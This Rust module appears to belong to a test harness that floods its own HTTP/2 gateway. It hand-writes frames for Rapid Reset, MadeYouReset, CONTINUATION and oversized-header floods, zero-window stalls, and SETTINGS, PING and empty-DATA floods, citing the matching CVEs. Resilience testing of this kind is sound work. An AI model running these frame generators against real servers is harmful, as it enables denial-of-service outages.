//! Attackers over HTTP/2, who write their frames themselves.
//!
//! Owns: what is sent on one connection until the gate ends it.
//! Must never: read what it sent wrong as an answer: only how the connection ended counts.
//! Look next: `frames`, the bytes; CVE-2023-44487, CVE-2024-27316 and CVE-2025-8671, where they come from.

use super::attacks::Way;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET, SETTINGS, WINDOW_MAX, WINDOW_UPDATE,
    frame, header, listen, opening, request,
};
use super::ground::{Ground, LARGE, SMALL};
use std::future::pending;
use std::pin::pin;
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

/// Frames, or requests, in one write.
const BATCH: u32 = 32;
/// Requests on one connection that reads nothing: as many as the gate lets in at once.
const STREAMS: u32 = 100;
/// Header lines of a list, each of a KB.
const LIST_LINES: usize = 1_000;
/// After the connection cannot be written to, for what the gate still says.
const PATIENCE: Duration = Duration::from_secs(2);
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// What is written next: bytes, and how many frames or requests they are. No bytes: nothing more.
type Piece = (Vec<u8>, u32);

/// One connection, from its handshake to its end.
pub(super) async fn connection(way: Way, ground: &Ground, number: usize) {
    let Some((stream, held)) = ground.raw(&ground.http2, None).await else { return };
    let (from, mut to) = tokio::io::split(stream);
    let window = if way == Way::ZeroWindow { 0 } else { WINDOW_MAX };
    let what = unit(way);
    let writing = async {
        to.write_all(&opening(window)).await?;
        for step in 0.. {
            let (bytes, count) = piece(way, ground, number, step);
            if bytes.is_empty() {
                to.flush().await?;
                return pending::<std::io::Result<()>>().await;
            }
            to.write_all(&bytes).await?;
            ground.tally.sent(what, u64::from(count));
        }
        to.flush().await
    };
    let mut listening = pin!(listen(from, &ground.tally));
    let end = tokio::select! {
        end = listening.as_mut() => end,
        _broken = writing => {
            let said = timeout(PATIENCE, listening.as_mut()).await;
            said.unwrap_or_else(|_| "closed".to_owned())
        }
    };
    held.ended(&end);
}

/// What [`piece`] counts.
fn unit(way: Way) -> &'static str {
    match way {
        Way::RapidReset | Way::MadeYouReset => "requests taken back",
        Way::ZeroWindow => "large answers asked for",
        Way::Headers2 => "header lists",
        _ => "frames",
    }
}

fn piece(way: Way, ground: &Ground, number: usize, step: u32) -> Piece {
    let authority = ground.http2.authority();
    let token = ground.token(number);
    let ask = |path: &str| request(false, path, authority, token.as_bytes());
    let first = step.saturating_mul(2 * BATCH).saturating_add(1);
    // A connection has two thousand million streams at the most; long before, it is a new one's turn.
    let streams = (first..).step_by(2).take(BATCH as usize);
    match way {
        Way::ZeroWindow if step == 0 => {
            let block = ask(LARGE);
            let all =
                (0..STREAMS).flat_map(|at| frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, &block));
            (all.collect(), STREAMS)
        }
        Way::Headers2 => (list(&ask(SMALL), 2 * step + 1), 1),
        Way::Continuations if step == 0 => (frame(HEADERS, END_STREAM, 1, &ask(SMALL)), 1),
        Way::Continuations => (continuations(number), BATCH),
        Way::RapidReset => {
            let block = ask(SMALL);
            let pair = |stream| {
                [frame(HEADERS, END_HEADERS | END_STREAM, stream, &block), frame(RESET, 0, stream, &CANCEL)]
            };
            (streams.flat_map(pair).flatten().collect(), BATCH)
        }
        Way::MadeYouReset => {
            let block = ask(SMALL);
            (streams.flat_map(|stream| provoke(number, stream, &block)).collect(), BATCH)
        }
        Way::EmptyData if step == 0 => {
            let mut block = request(true, "/fhir/Patient/_search", authority, token.as_bytes());
            header("content-type", b"application/x-www-form-urlencoded", &mut block);
            header("content-length", b"100", &mut block);
            (frame(HEADERS, END_HEADERS, 1, &block), 1)
        }
        Way::EmptyData => many(&frame(DATA, 0, 1, &[])),
        Way::Settings => many(&frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        Way::Pings => many(&frame(PING, 0, 0, &[1; 8])),
        _ => (Vec::new(), 0),
    }
}

fn many(frame: &[u8]) -> Piece {
    (frame.repeat(BATCH as usize), BATCH)
}

/// A header list far beyond what is let in, whole.
fn list(block: &[u8], stream: u32) -> Vec<u8> {
    let mut bytes = frame(HEADERS, END_STREAM, stream, block);
    let value = [b'a'; 1_000];
    for line in 0..LIST_LINES {
        let mut block = Vec::new();
        header(&format!("x-{line}"), &value, &mut block);
        let flags = if line + 1 == LIST_LINES { END_HEADERS } else { 0 };
        bytes.extend(frame(CONTINUATION, flags, stream, &block));
    }
    bytes
}

/// Frames that go on with a header block: full ones, or empty ones from every second attacker.
fn continuations(number: usize) -> Vec<u8> {
    let mut block = Vec::new();
    if number.is_multiple_of(2) {
        (0..15).for_each(|_| header("x-more", &[b'a'; 1_000], &mut block));
    }
    frame(CONTINUATION, 0, 1, &block).repeat(BATCH as usize)
}

/// A request, and what makes its receiver reset it: a window beyond the largest, a body after the end, a window of nothing.
fn provoke(number: usize, stream: u32, block: &[u8]) -> Vec<u8> {
    let mut bytes = frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
    bytes.extend(match number % 3 {
        0 => frame(WINDOW_UPDATE, 0, stream, &WINDOW_MAX.to_be_bytes()),
        1 => frame(DATA, 0, stream, b"a"),
        _ => frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
    });
    bytes
}
